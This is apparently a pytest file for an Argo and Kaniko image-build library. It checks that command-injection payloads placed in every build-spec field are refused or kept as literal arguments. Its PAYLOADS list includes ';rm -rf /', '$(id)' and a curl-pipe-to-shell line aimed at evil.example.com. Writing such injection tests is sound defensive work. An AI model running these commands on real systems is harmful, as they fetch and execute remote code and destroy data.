"""Shell metacharacters in every string field: refused with a clear error, or passed on as literal argv.

Argo is modelled by :func:`conftest.resolve_pods`: task arguments flow into the
DAG's inputs and on into each pod template, one substitution pass. After that
every value must sit inside exactly one argv element (or env value, or artifact
field), byte for byte, and no pod may run a shell.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest

from hera_imagebuild.client.inline import ImageBuild
from hera_imagebuild.client.options import BuildSettings, PvcHandoff, RetryPolicy, StepOptions
from hera_imagebuild.client.spec import (
    ArtifactContext,
    BuildSpec,
    GitContext,
    LayerCache,
    Proxy,
    PvcContext,
    S3Context,
)

from .conftest import as_dict, inline_workflow, resolve_pods, spec, template

PAYLOADS = ["$(id)", ";rm -rf /", "`id`", "a\nb", "it's", 'say "hi"', "x && curl evil.example.com | sh"]

GIT = "https://github.com/example-org/model.git"

# field -> build the object under test with the payload in that field
FIELDS: dict[str, Callable[[str], Any]] = {
    "destinations": lambda s: spec(destinations=[f"registry.example.com/ml/{s}:v1"]),
    "destination tag": lambda s: spec(destinations=[f"registry.example.com/ml/app:{s}"]),
    "dockerfile": lambda s: spec(dockerfile=s),
    "build_args name": lambda s: spec(build_args={s: "1"}),
    "build_args value": lambda s: spec(build_args={"PIP_EXTRA": s}),
    "target": lambda s: spec(target=s),
    "labels key": lambda s: spec(labels={s: "1"}),
    "labels value": lambda s: spec(labels={"com.example.note": s}),
    "platform": lambda s: spec(platform=s),
    "cache.repo": lambda s: spec(cache=LayerCache(repo=s)),
    "mirrors registry": lambda s: spec(mirrors={s: ["mirror.example.com"]}),
    "mirrors target": lambda s: spec(mirrors={"docker.io": [s]}),
    "proxy.http": lambda s: spec(proxy=Proxy(http=s)),
    "proxy.https": lambda s: spec(proxy=Proxy(https=f"http://{s}:3128")),
    "proxy.no_proxy": lambda s: spec(proxy=Proxy(no_proxy=s)),
    "docker_config_secret": lambda s: spec(docker_config_secret=s),
    "base_image_cache": lambda s: spec(base_image_cache=s),
    "executor_image": lambda s: spec(executor_image=s),
    "runtime_image": lambda s: spec(runtime_image=s),
    "context.url (git)": lambda s: spec(context=GitContext(url=f"https://github.com/{s}")),
    "context.ref": lambda s: spec(context=GitContext(url=GIT, ref=s)),
    "context.ssh_key_secret": lambda s: spec(context=GitContext(url=GIT, ssh_key_secret=s)),
    "context.url (s3)": lambda s: spec(context=S3Context(url=f"s3://bucket/{s}")),
    "context.endpoint": lambda s: spec(context=S3Context(url="s3://b/k", endpoint=s)),
    "context.credentials_secret": lambda s: spec(context=S3Context(url="s3://b/k", credentials_secret=s)),
    "context.region": lambda s: spec(context=S3Context(url="s3://b/k", region=s)),
    "context.claim_name": lambda s: spec(context=PvcContext(claim_name=s)),
    "context.sub_path": lambda s: spec(context=PvcContext(claim_name="src", sub_path=s)),
    "context.source": lambda s: spec(context=ArtifactContext(source=s)),
    "node_selector key": lambda s: spec(settings=BuildSettings(node_selector={s: "x"})),
    "node_selector value": lambda s: spec(settings=BuildSettings(node_selector={"pool": s})),
    "extra_kaniko_args": lambda s: spec(settings=BuildSettings(extra_kaniko_args=(f"--snapshot-mode={s}",))),
    "executor_service_account": lambda s: spec(settings=BuildSettings(executor_service_account=s)),
    "handoff.claim_name": lambda s: spec(settings=BuildSettings(handoff=PvcHandoff(claim_name=s))),
    "cpu": lambda s: StepOptions(cpu=s),
    "retry.backoff": lambda s: RetryPolicy(limit=1, backoff=s),
    "name (of an ImageBuild)": lambda s: ImageBuild(spec(), name=s),
}

CASES = [(name, payload) for name in FIELDS for payload in PAYLOADS]


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, list):
        return [s for item in value for s in _strings(item)]
    if isinstance(value, dict):
        return [s for item in value.values() for s in _strings(item)]
    return []


def _forms(payload: str) -> tuple[str, str]:
    """The payload as is, and as it appears inside a JSON string."""
    return payload, json.dumps(payload)[1:-1]


@pytest.mark.parametrize(("field", "payload"), CASES)
def test_payload_is_refused_or_literal(field: str, payload: str) -> None:
    try:
        built = FIELDS[field](payload)
    except ValueError as error:
        message = str(error)
        assert message.startswith(field.split(" ")[0]), message  # the field comes first
        assert "expected" in message or "not accepted" in message, message
        return
    if not isinstance(built, (BuildSpec, ImageBuild)):
        pytest.fail(f"{field}={payload!r} was accepted by a field that takes no free text")
    build = built if isinstance(built, ImageBuild) else ImageBuild(built, name="trainer")
    document = as_dict(inline_workflow(build))
    pods = resolve_pods(document, build.name)
    for step, pod in pods.items():
        original = template(document, pod["name"])["container"]
        container = pod["container"]
        assert container["command"] == original["command"]
        assert container["command"][0] in ("/kaniko/executor", "hera-imagebuild"), "no shell, ever"
        assert len(container["args"]) == len(original["args"]), (
            f"{step}: a value split into several arguments"
        )
    # The value arrives byte for byte: in an argv element, an env value, or the context artifact.
    delivered = [s for pod in pods.values() for s in _strings(pod)]
    main = template(document, "main")
    delivered += _strings(main["dag"]["tasks"][0]["arguments"])
    raw, escaped = _forms(payload)
    assert any(raw in s or escaped in s for s in delivered), f"{field}={payload!r} did not arrive intact"


def test_json_values_round_trip_exactly() -> None:
    nasty = "$(id);`id`'\"\\ ${HOME} %s {workflow.name}"
    build = ImageBuild(spec(build_args={"X": nasty}, labels={"note": nasty}), name="trainer")
    prefetch = resolve_pods(as_dict(inline_workflow(build)), "trainer")["prefetch"]["container"]["args"]
    values = {arg.partition("=")[0]: arg.partition("=")[2] for arg in prefetch}
    assert json.loads(values["--build-args-json"]) == {"X": nasty}
    assert json.loads(values["--labels-json"])["note"] == nasty


@pytest.mark.parametrize(
    "field",
    ["build_args value", "labels value", "context.ref", "dockerfile", "extra_kaniko_args"],
)
@pytest.mark.parametrize("value", ["{{workflow.name}}", "{{=sprig.upper('x')}}", "a{{b"])
def test_argo_templating_in_a_literal_value_is_refused(field: str, value: str) -> None:
    """Argo would expand it inside the parameter value: the build would see something else."""
    with pytest.raises(ValueError, match="Argo would expand or evaluate it") as error:
        FIELDS[field](value)
    assert str(error.value).startswith(field.split(" ")[0])


@pytest.mark.parametrize("field", ["build_args value", "labels value"])
def test_a_line_break_in_a_build_arg_or_label_is_refused_as_the_pod_would(field: str) -> None:
    """The pod bakes the value into a one-line Dockerfile instruction and refuses a line break."""
    with pytest.raises(ValueError, match="no newlines"):
        FIELDS[field]("first\nsecond")
